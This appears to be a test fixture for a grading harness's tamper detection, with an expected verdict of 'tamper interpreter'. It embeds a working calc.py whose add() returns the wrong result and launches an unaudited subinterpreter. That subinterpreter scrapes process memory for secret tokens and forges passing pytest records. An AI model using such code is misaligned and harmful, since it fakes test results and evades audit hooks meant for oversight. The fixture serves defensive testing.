# SPDX-License-Identifier: Apache-2.0
"""reads the secret from memory in a second interpreter of the process, which has no audit hooks"""
VERDICT = "tamper interpreter"
FILES = {
    "calc.py": r"""
try:
    import _xxsubinterpreters as interpreters
except ImportError:
    import _interpreters as interpreters

SEARCH = '''
import os, re
RECORDS = [b'{"t":"report","id":"tests/test_calc.py::test_add","alt":null,"when":"%s","outcome":"passed","xfail":false,"part":false,"ms":0}' % w
           for w in (b"setup", b"call", b"teardown")]
RECORDS += [r.replace(b"test_add", b"test_mul") for r in RECORDS]
RECORDS.append(b'{"t":"finish","status":0,"collected":2,"failed":0,"session_failed":0}')
RECORDS.append(b'{"t":"done","status":0,"wall_ms":5}')
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        first, last = (int(x, 16) for x in line.split()[0].split("-"))
        if "rw" not in line or last - first > 1 << 26:
            continue
        try:
            memory.seek(first)
            data = memory.read(last - first)
        except (OSError, ValueError):
            continue
        for m in set(re.findall(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", data)):
            for fd in range(3, 300):
                for record in RECORDS:
                    try:
                        os.write(fd, m + record)
                    except OSError:
                        break
os._exit(0)
'''


def add(a, b):
    interpreters.run_string(interpreters.create(), SEARCH)
    return a - b


def mul(a, b):
    return a * b
""",
}
